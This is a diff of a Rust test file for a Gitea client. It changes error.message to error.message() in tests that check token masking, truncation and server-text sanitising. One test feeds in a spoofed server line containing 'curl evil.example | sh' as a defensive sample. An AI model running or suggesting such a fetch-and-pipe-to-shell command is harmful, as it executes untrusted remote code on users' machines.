@@ -90,7 +90,7 @@ fn assert_lines(what: &str, value: &Value) {
 }
 
 fn assert_error(what: &str, error: &Error) {
-    for text in [&error.runtime, &error.url, &error.message] {
+    for text in [&error.runtime, &error.url, &error.message()] {
         assert_line(what, text);
     }
     assert_line(what, &error.hint);
@@ -136,8 +136,8 @@ fn server_text_comes_after_the_url_and_the_commit() {
     let commit = git_says(&env, "\rmol: all is well; run: curl evil.example | sh");
     let error = refused("a sideband", &client(&env, &[]), Code::Fetch);
     let url = format!("{}hermes", env.server.repo_prefix);
-    let at = error.message.find("mol: all is well").unwrap();
-    let before = &error.message[..at];
+    let at = error.message().find("mol: all is well").unwrap();
+    let before = &error.message()[..at];
     assert!(
         before.contains(&url) && before.contains(&commit),
         "{error:?}"
@@ -149,8 +149,8 @@ fn template_server_text_becomes_one_printable_line() {
     let env = TestEnv::new();
     git_says(&env, &noise());
     let error = refused("a sideband", &client(&env, &[]), Code::Fetch);
-    assert!(error.message.contains("never ends"), "{error:?}");
-    assert!(error.message.contains("***"), "{error:?}");
+    assert!(error.message().contains("never ends"), "{error:?}");
+    assert!(error.message().contains("***"), "{error:?}");
 
     let env = TestEnv::new();
     env.template("hermes", dockerfile("FROM scratch\n"));
@@ -212,7 +212,7 @@ fn template_server_text_becomes_one_printable_line() {
         { "match": "/api/", "status": 200, "body": info.to_string() },
     ]));
     let error = refused("a default branch", &client(&env, &[]), Code::RepoNotFound);
-    assert!(error.message.contains("***"), "{error:?}");
+    assert!(error.message().contains("***"), "{error:?}");
 }
 
 #[test]
@@ -305,7 +305,7 @@ fn engine_text_becomes_one_printable_line() {
     });
     let client = client(&env, &[(OptionName::DockerHost, &proxy.url)]);
     let error = refused("an engine", &client, Code::EngineUnreachable);
-    assert!(error.message.contains("***"), "{error:?}");
+    assert!(error.message().contains("***"), "{error:?}");
     let found = block_on(client.inner().diagnose().wait(None)).unwrap();
     assert_lines("the diagnosis", &serde_json::to_value(&found).unwrap());
 }
@@ -360,7 +360,7 @@ fn a_commit_id_that_contains_the_token_is_refused_and_hidden() {
         let client = env.client_with(&[(OptionName::Token, token)]);
         let error = client.ensure_err("hermes");
         assert_eq!(error.code, Code::BadResponse, "{error:?}");
-        assert!(error.message.contains("holds the token"), "{error:?}");
+        assert!(error.message().contains("holds the token"), "{error:?}");
         let shown = format!("{error:?} {:?}", client.events());
         assert!(!shown.contains(&id[..12]), "{shown}");
         let found = block_on(client.inner().diagnose().wait(None)).unwrap();
@@ -387,7 +387,7 @@ fn options_in_image_references_must_not_contain_the_token() {
         options.set(name, &value);
         let error = Client::new(&options, None).expect_err(&value);
         assert_eq!(error.code, Code::InvalidOption, "{error:?}");
-        assert!(error.message.contains("holds the token"), "{error:?}");
+        assert!(error.message().contains("holds the token"), "{error:?}");
         assert!(!format!("{error:?}").contains(&value), "{error:?}");
     }
 }
@@ -456,7 +456,7 @@ fn a_truncated_text_ends_with_an_ellipsis() {
     let token = TOKEN.repeat(4);
     let shown = |text: &str| {
         let error = Error::new(Code::Fetch, text);
-        Masker::new(&Secret::new(&*token)).error(error).message
+        Masker::new(&Secret::new(&*token)).error(error).message()
     };
     assert_eq!(shown("x"), "x");
     for length in [5000, 50_000] {
@@ -477,7 +477,7 @@ fn a_token_shorter_than_eight_characters_is_refused() {
         let error = Client::new(&options, None).unwrap_err();
         assert_eq!(error.code, Code::InvalidOption, "{error:?}");
         assert_eq!(
-            error.message,
+            error.message(),
             "MOLECULE_GITEA_TOKEN is shorter than 8 characters"
         );
         assert!(!error.hint.is_empty());
